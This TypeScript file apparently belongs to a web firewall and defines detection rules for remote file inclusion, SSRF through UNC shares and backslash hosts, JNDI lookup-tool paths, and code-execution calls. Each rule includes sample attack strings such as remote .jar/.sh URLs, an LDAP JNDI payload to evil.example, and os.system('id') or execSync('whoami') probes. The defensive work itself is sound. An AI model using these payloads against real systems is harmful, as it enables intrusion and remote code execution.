import { pattern, type Rule } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import { WORD } from '../value/words.ts'
import { ANYWHERE, LOOK } from './remote-commands.ts'

/** What is built or fetched from where nobody but an intruder has it, and calls that only look around. */
export const foreignProgramRules: readonly Rule[] = [
  // A program that a backend is to load, at an address by numbers: publishers of software have names.
  pattern(
    'rfi/program-address',
    new RegExp(
      `^\\s{0,2}(?:jar:)?(?:https?|ftp):\\/\\/${ANYWHERE}(?::\\d{1,5})?\\/[^\\s?#]{0,160}\\.(?:jar|war|sh|so|dll|class|hta|ps1|vbs|php\\d?|phar|pyc?|pl|dtd|xslt?)(?:!\\/[^\\s]{0,80})?(?:\\?[^\\s]{0,80})?\\s{0,2}$`,
    ),
    {
      score: 5,
      atStart: true,
      chars: CHAR.scheme,
      places: ['query', 'body', 'cookie'],
      attacks: ['http://198.51.100.7/x.jar', 'http://198.51.100.7:8000/a/b.sh', 'ftp://198.51.100.7/x.php?'],
      benign: [
        'http://10.0.0.5/x.jar',
        'https://repo.example.com/x.jar',
        'http://198.51.100.7/x.png',
        'see http://198.51.100.7/x.sh',
      ],
    },
  ),
  // A share of files there, which asks for the password of who opens it.
  pattern(
    'ssrf/foreign-share',
    new RegExp(`(?:^|[=;"'\\s])\\\\\\\\{1,3}${ANYWHERE}(?:@\\d{1,5})?\\\\{1,2}\\w`),
    {
      score: 5,
      quotable: true,
      chars: CHAR.backslash,
      attacks: ['\\\\198.51.100.7\\x', 'Data Source=\\\\198.51.100.7\\x\\y'],
      benign: ['\\\\10.0.0.7\\share', '\\\\server\\share', '198.51.100.7\\x'],
    },
  ),
  // What one reader takes for the host is a name and a password to the next one.
  pattern('ssrf/backslash-host', /^\s{0,2}(?:https?:)?[/\\]{2}[^\s/?#\\]{1,100}\\{1,2}@[\w.-]/, {
    score: 5,
    atStart: true,
    chars: CHAR.backslash,
    attacks: ['//evil.example\\@shop.example', 'https://a\\@b'],
    benign: ['https://a@b', 'a\\@b', '//a/b\\@c'],
  }),
  // The paths under which tools of attackers hand out objects (JNDI).
  pattern(
    'java/lookup-tool',
    /\b(?:ldaps?|rmi):\/\/[^\s/]{1,100}\/(?:basic|deserialization|tomcatbypass|groovybypass|webspherebypass|elprocessor|tomcatjdbc|o=(?:reference|tomcat|groovy))\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.scheme,
      words: WORD.lookup,
      attacks: ['ldap://evil.example:1389/Basic/Command/Base64/aWQ=', 'rmi://a/Deserialization/x/y'],
      benign: ['ldap://dc.example.com/o=users', 'ldap://dc.example.com/dc=example'],
    },
  ),
  // A call that does nothing but tell who the program is.
  pattern(
    'code/look-call',
    new RegExp(
      `\\b(?:os\\.(?:system|popen|execute)|io\\.popen|subprocess\\.\\w{3,14}|(?:execsync|spawnsync)|getruntime\\(\\)\\.exec|process\\.start)\\s?\\(\\s?\\[?\\\\?["']${LOOK}\\\\?["']`,
    ),
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren,
      words: WORD.runtime,
      attacks: [
        "import os;os.system('id')",
        'loadstring("os.execute(\\"id\\")")()',
        "require('child_process').execSync('whoami')",
        'Runtime.getRuntime().exec("id")',
      ],
      benign: ["os.system('make')", "subprocess.run(['ls'])", 'os.system(id)', 'exec("id")'],
    },
  ),
  // Ends the program that evaluates it (.NET).
  pattern('code/exit-call', /\benvironment\.exit\s?\(\s?-?\d/, {
    score: 5,
    quotable: true,
    chars: CHAR.paren,
    words: WORD.php,
    attacks: ['Environment.Exit(0)', 'System.Environment.Exit (-1)'],
    benign: ['environment.exit', 'Environment.Exit(code)'],
  }),
  // Calls into the runtime of a language that end the program, start another one or read its files.
  pattern(
    'code/server-call',
    /\[system\.(?:io\.(?:file|directory)|diagnostics\.process|net\.webclient|reflection\.assembly)\]::\w|\berlang:(?:halt|open_port)\s?\(|\bclojure\.core\/eval\b|\(system\/(?:exit|getenv)\s|\bjava\.lang\.system\.(?:exit|getenv|setproperty|load|loadlibrary)\s?\(|\bgetservletcontext\(\)\s?\.\s?getrealpath\s?\(|\bthis\.process\.(?:env|mainmodule|binding|exit)\b|\bsys\.modules\s?\[\s?\\?["']|\bprocess\.binding\s?\(/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren | CHAR.bracket,
      words: WORD.java | WORD.runtime,
      attacks: [
        '[System.IO.File]::ReadAllText("C:\\x")',
        'erlang:halt().',
        '(clojure.core/eval x)',
        '(System/exit 0)',
        'java.lang.System.exit(1)',
        "sys.modules['os'].system('x')",
        '(function(){return this.process.env})()',
      ],
      benign: ['System.out.println(1)', 'process.env', '[System.IO]'],
    },
  ),
]
